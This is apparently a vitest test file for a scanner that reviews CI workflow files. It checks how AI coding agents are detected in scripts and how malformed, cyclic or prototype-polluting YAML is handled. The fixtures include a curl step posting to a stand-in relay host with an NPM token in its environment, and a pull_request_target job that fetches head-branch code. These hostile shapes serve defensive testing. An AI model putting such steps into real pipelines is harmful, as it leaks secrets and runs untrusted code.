import { describe, expect, it } from "vitest";
import { RULES } from "../rules/index.ts";
import { readItem } from "../read-item.ts";
import { runRules } from "../run-rules.ts";
import { agentSteps, workflowOf } from "./index.ts";

function item(text: string, path = ".github/workflows/x.yml") {
  return readItem(path, text, "project")!;
}

const script = (run: string) => `on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n${run.replaceAll(/^/gm, "          ")}\n`;
const agentIn = (run: string) => agentSteps(workflowOf(item(script(run))).jobs[0]!)[0]?.agent.agent;

describe("agents in scripts", () => {
  it.each([
    ['claude -p "fix it"', "claude-code"],
    ['npx -y @anthropic-ai/claude-code@2.1.0 -p "fix it"', "claude-code"],
    ['git diff | claude --print "review"', "claude-code"],
    ['OUT="$(timeout 300 claude -p review)"', "claude-code"],
    ["if ! ./node_modules/.bin/claude --output-format json; then exit 1; fi", "claude-code"],
    ['claude \\\n  --model x \\\n  -p "fix it"', "claude-code"],
    ["FOO='a b' BAR=1 codex --sandbox read-only exec 'x'", "codex"],
    ["pnpm dlx @openai/codex exec x", "codex"],
    ["gemini --yolo --prompt x", "gemini-cli"],
    ["opencode run 'x'", "other"],
    ["npm install -g @anthropic-ai/claude-code", undefined],
    ["claude --version", undefined],
    ["# claude -p x", undefined],
    ["grep -p claude README.md", undefined],
    ["cp CLAUDE.md -p out", undefined],
  ])("%s", (run, agent) => expect(agentIn(run)).toBe(agent));
});

describe("hostile shapes", () => {
  const cyclic = "on: push\njobs: &j\n  a: &a\n    steps: [*a, *j]\n    env: *a\n";
  it.each([
    [
      "",
      "a scalar",
      "null",
      "[]",
      "on: [[]]\njobs: []",
      "jobs: {a: null, b: 1, c: [x]}",
      "on: {push: [1]}\njobs: {a: {steps: {x: 1}, needs: {a: b}, runs-on: [[1]], permissions: [1], env: [], if: {}}}",
    ],
    [
      "jobs: {a: {steps: [null, 1, [x], {uses: 1, run: {a: b}, with: [1], env: 3, if: []}]}}",
      "jobs: {__proto__: {steps: []}, constructor: {uses: a}}",
      cyclic,
      "on: pull_request_target\njobs: {a: {steps: [{run: git fetch origin, env: {'A(': '${{ github.head_ref }}'}}, {run: ./build.sh}]}}",
      "on: push\njobs: {a: {steps: [{run: 'curl -d x https://a.build-relay.dev', env: {'A(': '${{ secrets.NPM_TOKEN }}'}}]}}",
      "jobs: {a: {steps: [{uses: '@'}, {uses: 'a@'}, {uses: '@b'}]}}",
    ],
  ])("are read without a fault", (...texts) => {
    for (const text of texts) {
      for (const path of [".github/workflows/x.yml", ".gitlab-ci.yml", ".github/settings.yml", "CODEOWNERS"]) {
        const said = runRules([item(text, path)], RULES).filter(({ message }) => message.startsWith("the rule could not look"));
        expect(said).toEqual([]);
      }
    }
  });

  it("ends on scripts made to send patterns back and forth", () => {
    const long = [
      "claude ",
      "codex ",
      "-a",
      "--a",
      "1",
      "${{ ",
      "A=1 ",
      "git push -a ",
      "collaborators/",
      "npx -y ",
      '"allow": [',
      '--tools "',
      "gemini ",
      "@a/",
      "curl claude.ai/install ",
    ];
    for (const one of long) {
      const found = runRules([item(script(`npx ${one.repeat(Math.floor(60_000 / one.length))}`))], RULES);
      expect(found.filter(({ message }) => message.startsWith("the rule could not look"))).toEqual([]);
    }
  });
});
